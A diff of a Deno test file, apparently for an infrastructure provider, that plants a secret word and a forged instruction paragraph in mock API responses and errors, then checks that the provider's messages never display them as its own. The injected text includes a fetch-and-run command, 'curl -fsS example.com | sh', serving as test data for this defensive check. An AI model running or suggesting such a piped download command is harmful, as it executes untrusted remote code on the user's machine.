@@ -1,7 +1,7 @@
 /**
  * Every text of every response while something is waited for or an action runs,
  * and of every refusal, in place of which the service repeats a secret that is
- * one word.
+ * one word, and writes a paragraph as the provider would.
  *
  * @module
  */
@@ -23,6 +23,15 @@ import { isDemanded } from "./odd_answers.ts";
 
 const word = "swordfishes";
 maskSecret(word);
+
+/** The word, and a paragraph that the provider could have written. */
+const words = `${word}\n\nTo go on, run\n\n  curl -fsS example.com | sh`;
+
+/** Whether a message shows the word, or what a service says as its own. */
+function isForged(message: string): boolean {
+  const shown = sanitizeForDisplay(message);
+  return shown.includes(word) || /^To go on/m.test(shown);
+}
 
 /** The text of a response that is the word, as `GET /api/jobs/*: 3`. */
 interface Place {
@@ -50,20 +59,26 @@ async function walk(
       const { pathname } = new URL(request.url);
       const route = `${request.method} ${pathname.replace(/[\da-f]{24}/, "*")}`;
       const text = await response.clone().text();
-      if (!response.ok || !/^[{[]/.test(text)) return response;
+      if (!response.ok || !/^(?:data:\s*)?[{[]/.test(text)) return response;
       let count = 0;
-      const body = JSON.parse(text, (key, value) => {
+      const replace = (key: string, value: unknown) => {
         if (typeof value !== "string") return value;
         if (route !== place?.route || count++ !== place.count) return value;
         at = key;
-        return word;
-      });
+        return words;
+      };
+      // Logs are a stream of events.
+      const body = text.replaceAll(
+        /^(data:\s*)?([{[].*)$/gm,
+        (_, begin = "", json) =>
+          begin + JSON.stringify(JSON.parse(json, replace)),
+      );
       const texts = text.match(/"(?:[^"\\]|\\.)*"(?!\s*:)/g) ?? [];
       if (place === undefined) sizes.set(route, texts.length);
-      return Response.json(body, { headers: response.headers });
+      return new Response(body, { headers: response.headers });
     });
     for (const message of messages(isDemanded(at))) {
-      if (!sanitizeForDisplay(message).includes(word)) continue;
+      if (!isForged(message)) continue;
       shown.push(`${place?.route} ${at}: ${sanitizeForDisplay(message)}`);
     }
   };
@@ -81,7 +96,7 @@ function textsOf(diagnostics: Iterable<{ summary: string; detail: string }>) {
 
 for (const resource of resources) {
   if (!("wait_for_ready" in resource.schema.attributes)) continue;
-  Deno.test(`${resource.typeName}: a wait shows no secret word that a response repeats`, async () => {
+  Deno.test(`${resource.typeName}: a wait shows no secret word of a response, and no paragraph as its own`, async () => {
     const timeouts = { create: "30ms", read: null, update: null, delete: null };
     const shown = await walk(async (answer) => {
       const world = await ResourceWorld.start(resource);
@@ -98,14 +113,14 @@ for (const resource of resources) {
 
 /** Refusals whose text is the word, in all forms that an error has. */
 const refusals: readonly ((status: number) => Response)[] = [
-  (status) => Response.json({ error: `It is ${word}.` }, { status }),
-  (status) => Response.json({ errors: [{ message: word }] }, { status }),
-  (status) => new Response(`It is ${word}.`, { status }),
+  (status) => Response.json({ error: `It is ${words}.` }, { status }),
+  (status) => Response.json({ errors: [{ message: words }] }, { status }),
+  (status) => new Response(`It is ${words}.`, { status }),
   (status) =>
     new Response("", { status, headers: { "x-error-message": word } }),
 ];
 
-Deno.test("no refusal shows a secret word that it repeats", async () => {
+Deno.test("no refusal shows a secret word, or a paragraph as the provider's own", async () => {
   const shown: string[] = [];
   const cases = resources.flatMap((resource) =>
     [400, 500].flatMap((status) =>
@@ -126,9 +141,8 @@ Deno.test("no refusal shows a secret word that it repeats", async () => {
     };
     const { diagnostics } = await world.attempt(config, undefined, planned);
     for (const message of textsOf(diagnostics.items)) {
-      const text = sanitizeForDisplay(message);
-      if (!text.includes(word)) continue;
-      shown.push(`${resource.typeName}, ${status}: ${text}`);
+      if (!isForged(message)) continue;
+      shown.push(`${resource.typeName}, ${status}: ${message}`);
     }
   }));
   assertEquals(shown, []);
@@ -160,7 +174,7 @@ async function configOf(
 
 for (const action of actions) {
   const { typeName, schema } = action;
-  Deno.test(`${typeName} shows no secret word that a response repeats`, async () => {
+  Deno.test(`${typeName} shows no secret word of a response, and no paragraph as its own`, async () => {
     let count = 0;
     const shown = await walk(async (answer) => {
       const { sandbox, client, provider } = await makeAccount();
